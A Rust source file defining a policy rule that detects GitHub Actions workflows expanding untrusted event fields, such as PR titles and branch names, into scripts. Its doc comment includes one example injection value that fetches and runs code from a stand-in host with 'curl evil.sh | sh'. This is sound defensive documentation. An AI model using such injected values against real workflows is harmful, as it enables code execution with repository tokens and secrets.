//! # Workflow scripts do not interpolate untrusted event data
//!
//! ## What it checks
//! `run:` scripts of GitHub workflow steps (and `script:` inputs of
//! `actions/github-script`) that expand, with `${{ … }}`, event fields an
//! outside user controls: issue, pull request, discussion, review and
//! comment titles and bodies, branch names (`github.head_ref`,
//! `pull_request.head.ref`/`label`), commit messages and author names and
//! e-mails, page names, `workflow_run` head branches and commit messages.
//!
//! ## Why it matters
//! `${{ }}` is substituted into the script text before the shell runs it.
//! A pull request titled `a"; curl evil.sh | sh; echo "` becomes code
//! executed with the workflow's token and secrets. Passing the value
//! through an environment variable makes it data again.
//!
//! ## Example
//! ```yaml
//! - run: echo "Title: ${{ github.event.issue.title }}"
//! ```
//!
//! ## Fix
//! ```yaml
//! - env:
//!     TITLE: ${{ github.event.issue.title }}
//!   run: echo "Title: $TITLE"
//! ```
//!
//! ## Differences from Checkov
//! CKV_GHA_2 matches a fixed list of exact strings (`${{ github.event.issue.title }}`
//! with single spaces); this rule reads every expression, so it also finds
//! `${{github.head_ref}}`, fields inside functions (`format(…)`) and the
//! discussion and `workflow_run` fields.
//!
//! ## References
//! - https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections
//! - https://securitylab.github.com/resources/github-actions-untrusted-input/

use crate::policy::model::Resource;
use crate::policy::rule::{Ctx, Outcome, Rule, Severity, fail};
use crate::policy::rules::common_docker::{gha_expressions, gha_jobs, gha_steps};

pub static RULE: Rule = Rule {
    id: "LG-CI-003",
    title: "Workflow scripts do not interpolate untrusted event data",
    severity: Severity::High,
    resources: &["github.workflow"],
    frameworks: &["slsa:build-l3", "pci-dss:6.2.4", "sox:itgc-change", "soc2:CC8.1"],
    equivalent: &["CKV_GHA_2"],
    check,
};

/// Fields (after `github.event.`) that outsiders set, as prefix and suffix.
const UNTRUSTED: &[(&str, &str)] = &[
    ("issue.", ".title"),
    ("issue.", ".body"),
    ("pull_request.", ".title"),
    ("pull_request.", ".body"),
    ("comment.", ".body"),
    ("review.", ".body"),
    ("review_comment.", ".body"),
    ("discussion.", ".title"),
    ("discussion.", ".body"),
    ("pages", ".page_name"),
    ("head_commit.", ".message"),
    ("head_commit.", ".email"),
    ("head_commit.", ".name"),
    ("commits", ".message"),
    ("commits", ".email"),
    ("commits", ".name"),
    ("pull_request.head.", ".ref"),
    ("pull_request.head.", ".label"),
    ("pull_request.head.repo.", ".default_branch"),
    ("workflow_run.", ".head_branch"),
    ("workflow_run.head_commit.", ".message"),
    ("workflow_run.head_commit.", ".email"),
    ("workflow_run.head_commit.", ".name"),
];

/// The first untrusted field an expression reads.
fn untrusted(expr: &str) -> Option<String> {
    let cleaned: String = expr.chars().filter(|c| !c.is_whitespace()).collect();
    if cleaned.contains("github.head_ref") {
        return Some("github.head_ref".into());
    }
    let mut rest = cleaned.as_str();
    while let Some(i) = rest.find("github.event.") {
        let field: String = rest[i + 13..]
            .chars()
            .take_while(|c| c.is_ascii_alphanumeric() || matches!(c, '_' | '.' | '*' | '[' | ']'))
            .collect();
        let f = format!(".{field}");
        if UNTRUSTED
            .iter()
            .any(|(p, s)| field.starts_with(p) && (f.ends_with(s) || f.ends_with(&format!("{s}]"))))
        {
            return Some(format!("github.event.{field}"));
        }
        rest = &rest[i + 13..];
    }
    None
}

fn check(r: &Resource, _cx: &Ctx) -> Outcome {
    for job in gha_jobs(r) {
        for step in gha_steps(job) {
            let mut scripts = vec![step.body.get("run")];
            if step
                .body
                .get("uses")
                .str()
                .is_some_and(|u| u.to_ascii_lowercase().starts_with("actions/github-script@"))
            {
                scripts.push(step.body.get("with.script"));
            }
            for g in scripts {
                let Some(text) = g.str() else { continue };
                if let Some(field) = gha_expressions(text).into_iter().find_map(untrusted) {
                    return fail(
                        g.span(),
                        format!(
                            "job `{}` expands `{field}` into a script: pass it through an environment variable",
                            job.ident
                        ),
                    );
                }
            }
        }
    }
    Outcome::Pass
}
